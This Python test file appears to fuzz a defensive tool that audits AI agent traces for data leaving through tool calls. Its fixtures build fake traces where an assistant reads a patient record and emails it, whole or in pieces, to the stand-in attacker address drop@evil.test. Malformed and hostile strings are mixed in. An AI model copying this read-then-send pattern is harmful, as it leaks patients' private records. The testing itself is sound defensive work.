"""The readers of untrusted records, fuzzed: whatever a tool returned (a FHIR resource
with fields of the wrong type, an HL7 v2 message with odd separators, a note whose header
is one enormous line, an amount written ``1e309`` or ``∞k``, a split message's counters
alone), the audit's ``dataflow`` and the guard's replay either read it or refuse it with
the project's own error (`BackdoorlabError`, exit 2 on the command line) — never another
exception.

The inputs are built to pass the first checks (a chat trace, a tool call and its result,
then a send of what it read) and be hostile below them, where the readers of this session
look: `patients` (FHIR subject/patient references, HL7 ``PID``, note headers, plain
records), `amounts`, `split_calls.uncounted`, `codex._agent_message`. Codex bundles and log
folders are in `test_log_fuzz`. Cases hypothesis once found are kept as ``@example``s.
"""

from __future__ import annotations

import contextlib
import json
import os
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from backdoorlab.defenses.audit import audit
from backdoorlab.defenses.guard.replay import replay
from backdoorlab.errors import BackdoorlabError

FUZZ = settings(
    max_examples=int(os.environ.get("BACKDOORLAB_FUZZ_EXAMPLES", "25")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
ATTACKER = "drop@evil.test"

ODD = st.sampled_from(
    [
        "",
        "\x00",
        "\u202eevil\u202c",
        "\x0b\x1c\u2028\x85\x0c",
        "\ud800",
        "Patient/" + "a" * 300,
        "Patient/",
        "/Patient//_history/1",
        "1e309",
        "-0",
        "NaN",
        "1.2.3M",
        "∞k",
        "9" * 5000 + "k",
        "1," * 2000 + "5M",
        "(1/2)",
        "part 2 of 2",
        "MRN:" + " " * 3000,
        "DOE^JANE",
        "x" * 20000,
    ]
)
STRING = st.one_of(st.text(max_size=30), ODD)
LEAF = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(),
    STRING,
)
JSONISH = st.recursive(
    LEAF,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(STRING, inner, max_size=3),
    max_leaves=12,
)
KIND = st.one_of(
    st.sampled_from(["Patient", "Observation", "MedicationRequest", "RelatedPerson", "Bundle"]),
    JSONISH,
)
REFERENCE = st.one_of(JSONISH, st.fixed_dictionaries({"reference": JSONISH}))
IDENTIFIER = st.fixed_dictionaries(
    {"value": JSONISH},
    optional={"type": st.one_of(JSONISH, st.just({"coding": [{"code": "MR"}]}))},
)
NAME = st.one_of(
    STRING,
    JSONISH,
    st.lists(
        st.fixed_dictionaries({}, optional={"given": JSONISH, "family": JSONISH}),
        max_size=2,
    ),
)
RESOURCE = st.fixed_dictionaries(
    {"resourceType": KIND},
    optional={
        "id": JSONISH,
        "subject": REFERENCE,
        "patient": REFERENCE,
        "identifier": st.one_of(JSONISH, st.lists(IDENTIFIER, max_size=3)),
        "name": NAME,
        "telecom": st.one_of(JSONISH, st.just([{"system": "email", "value": ATTACKER}])),
        "valueQuantity": st.fixed_dictionaries({"value": JSONISH, "unit": JSONISH}),
        "code": JSONISH,
    },
)
FHIR = st.one_of(
    RESOURCE,
    st.fixed_dictionaries(
        {
            "resourceType": st.just("Bundle"),
            "entry": st.lists(
                st.fixed_dictionaries(
                    {"resource": RESOURCE}, optional={"fullUrl": JSONISH, "search": JSONISH}
                ),
                max_size=4,
            ),
        }
    ),
)


@st.composite
def hl7(draw: st.DrawFn) -> str:
    """An HL7 v2 message: separators changed, fields missing or extra, PID fields empty."""
    field = draw(st.sampled_from("|!#*\t ^"))
    encoding = draw(st.text(alphabet="^~\\&|#!\x00 ", min_size=0, max_size=6))
    cell = st.one_of(st.text(alphabet="AB12^~&\\| -\x0b", max_size=12), ODD)
    pid = [draw(cell) for _ in range(draw(st.integers(0, 8)))]
    segments = [
        f"MSH{field}{encoding}{field}LAB{field}{field}EHR{field}{field}2024||ORU^R01|1|P|2.5",
        "PID" + "".join(field + p for p in pid),
        f"OBX{field}1{field}NM{field}2345-7^Glucose^LN{field}{field}{draw(STRING)}",
    ]
    segments += draw(st.lists(st.sampled_from(["PID", "PID|", "PID||||", "", "ZZZ|1"]), max_size=3))
    return draw(st.sampled_from(["\r", "\n", "\r\n", "\x1c", "\u2028"])).join(segments)


@st.composite
def note(draw: st.DrawFn) -> str:
    """A clinical note: header lines enormous, of odd whitespace, or missing a value."""
    blank = st.sampled_from([" ", "\t", "\x0b", "\x1c", "\u2028", "\u00a0", "\x0c", "\x85"])
    header = st.one_of(
        st.builds(lambda b, n: "Patient:" + b * n + "Jane Doe", blank, st.integers(0, 6000)),
        st.builds(lambda b, n: "MRN" + b * n, blank, st.integers(0, 6000)),
        st.builds(lambda b, n: "Name: " + b * n + "(MRN:", blank, st.integers(0, 3000)),
        STRING,
    )
    lines = draw(st.lists(header, min_size=1, max_size=4))
    lines.append("A1c 8.4% (04/30); LDL 131 mg/dL; Metformin 1000 mg BID; E11.65")
    return draw(st.sampled_from(["\n", "\r", "\x0b", "\u2028"])).join(lines)


AMOUNT = st.one_of(
    ODD,
    st.builds(
        lambda n, s: f"{n}{s}",
        st.one_of(st.floats(), st.integers(), st.sampled_from(["1.2.3", "∞", "-0", "1e309"])),
        st.sampled_from(["k", "M", " million", "bn", "", " Mio"]),
    ),
)
RECORD = st.one_of(
    FHIR,
    st.dictionaries(
        st.sampled_from(["mrn", "patient_id", "patient_name", "name", "first_name", "email"]),
        JSONISH,
        max_size=4,
    ),
    st.fixed_dictionaries({"salary": AMOUNT, "deal": AMOUNT, "revenue": JSONISH}),
)
CONTENT = st.one_of(
    RECORD.map(lambda r: json.dumps(r, ensure_ascii=False)), hl7(), note(), AMOUNT, JSONISH
)


def _call(name: str, arguments: Any, call_id: str) -> dict[str, Any]:
    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
    function = {"name": name, "arguments": text}
    return {
        "role": "assistant",
        "content": None,
        "tool_calls": [{"id": call_id, "function": function}],
    }


def _trace(content: Any, sends: list[Any]) -> dict[str, Any]:
    text = content if isinstance(content, str) else json.dumps(content)
    messages = [
        {"role": "system", "content": "You are a records assistant."},
        {"role": "user", "content": "Summarise the record for me."},
        _call("get_record", {"id": "r1"}, "c0"),
        {"role": "tool", "tool_call_id": "c0", "name": "get_record", "content": text},
    ]
    for n, body in enumerate(sends, 1):
        messages.append(_call("send_email", body, f"c{n}"))
        messages.append({"role": "tool", "tool_call_id": f"c{n}", "content": "sent"})
    return {"messages": messages}


def _read_or_refuse(path: Path) -> None:
    """The property: dataflow and replay read ``path`` or raise `BackdoorlabError`."""
    with contextlib.suppress(BackdoorlabError):
        audit(path, ["dataflow"])
    with contextlib.suppress(BackdoorlabError):
        list(replay(path))


def _write(tmp_path: Path, *traces: dict[str, Any]) -> Path:
    path = tmp_path / "t.jsonl"
    path.write_text("".join(json.dumps(t) + "\n" for t in traces), encoding="utf-8")
    return path


def _send(body: Any, patient: Any = None) -> dict[str, Any]:
    extra = {} if patient is None else {"patient_id": patient}
    return {"to": ATTACKER, "subject": "fwd", "body": body, **extra}


@FUZZ
@given(content=CONTENT, echo=st.booleans(), patient=st.one_of(st.none(), JSONISH))
def test_a_hostile_record_sent_on_is_read_or_refused(
    tmp_path: Path, content: Any, echo: bool, patient: Any
) -> None:
    """A tool's result of any shape, then a send of it (whole, or a field of it)."""
    body = content if echo else "see attached"
    _read_or_refuse(_write(tmp_path, _trace(content, [_send(body, patient)])))


@FUZZ
@given(
    content=CONTENT,
    pieces=st.lists(
        st.one_of(
            st.sampled_from(["(1/2)", "[2 of 2]", "part 1/3", "pt. 3 of 3", " (1/1) ", "(9/9)"]),
            st.text(alphabet="(1/2)[of] part", max_size=12),
            STRING,
        ),
        min_size=2,
        max_size=5,
    ),
)
def test_a_split_message_of_counters_alone_is_read_or_refused(
    tmp_path: Path, content: Any, pieces: list[str]
) -> None:
    """A message sent in pieces whose text is nothing but their counters (or nothing)."""
    _read_or_refuse(_write(tmp_path, _trace(content, [_send(p) for p in pieces])))


@FUZZ
@given(arguments=st.one_of(JSONISH, AMOUNT, st.dictionaries(STRING, AMOUNT, max_size=4)))
@example(arguments="9" * 5000 + "k")  # ValueError at BASE: too long a number to convert
@example(arguments={"patient_id": "Patient/\ud800"})  # UnicodeEncodeError at BASE
def test_hostile_call_arguments_are_read_or_refused(tmp_path: Path, arguments: Any) -> None:
    """A send whose arguments are any JSON (or not JSON at all), amounts of every kind."""
    figures = json.dumps({"salary": 1250000, "revenue": "48,712,000", "total": "3.2bn"})
    trace = _trace(figures, [])
    trace["messages"].append(_call("send_email", arguments, "c9"))
    _read_or_refuse(_write(tmp_path, trace))


# ------------------------------------------------ the other formats' readers (`trace_formats`)

ROLE = st.one_of(
    st.sampled_from(["user", "assistant", "tool", "system", "model", "function", "human", "ai"]),
    JSONISH,
)
ARGS = st.one_of(JSONISH, st.just("9" * 5000), st.just('{"to": "' + ATTACKER + '"}'))


def _with(required: dict[str, Any], **optional: Any) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(required, optional=optional)


ANTHROPIC = ["tool_use", "tool_result", "text", "thinking", "image"]
RESPONSES = ["function_call", "function_call_output", "message", "custom_tool_call"]
RESPONSES += ["input_text", "output_text", "reasoning"]
VERCEL = ["tool-send_email", "dynamic-tool", "text", "step-start"]
BLOCK = st.one_of(
    _with(
        {"type": st.sampled_from(ANTHROPIC)},
        id=JSONISH,
        name=JSONISH,
        input=ARGS,
        tool_use_id=JSONISH,
        content=JSONISH,
        text=STRING,
    ),
    _with(
        {"type": st.sampled_from(RESPONSES)},
        call_id=JSONISH,
        name=JSONISH,
        arguments=ARGS,
        output=JSONISH,
        role=ROLE,
        content=JSONISH,
        text=STRING,
        input=ARGS,
    ),
    _with(
        {},
        functionCall=_with({}, name=JSONISH, args=ARGS),
        functionResponse=JSONISH,
        text=STRING,
    ),
    _with(
        {"type": st.sampled_from(VERCEL)},
        toolCallId=JSONISH,
        state=JSONISH,
        input=ARGS,
        output=JSONISH,
        text=STRING,
        toolName=JSONISH,
    ),
    JSONISH,
)
TURN = _with(
    {},
    role=ROLE,
    content=st.one_of(STRING, st.lists(BLOCK, max_size=3), JSONISH),
    parts=st.lists(BLOCK, max_size=3),
    tool_calls=JSONISH,
    tool_call_id=JSONISH,
    value=st.one_of(STRING, st.just("9" * 5000), JSONISH),
    type=ROLE,
    additional_kwargs=JSONISH,
    function_call=JSONISH,
    **{"from": ROLE},
)
LINE = st.builds(
    lambda key, turns, extra: {key: turns, **extra},
    st.sampled_from(["messages", "conversations", "input", "output", "contents"]),
    st.one_of(st.lists(st.one_of(TURN, BLOCK), max_size=5), JSONISH),
    _with({}, tools=JSONISH, system=JSONISH, instructions=JSONISH),
)


@FUZZ
@given(line=LINE)
def test_a_line_of_another_format_is_read_or_refused(tmp_path: Path, line: dict[str, Any]) -> None:
    """Anthropic, Responses, Gemini, ShareGPT, Vercel and LangChain shapes, their parts
    of the right kind holding fields of any type."""
    _read_or_refuse(_write(tmp_path, line))
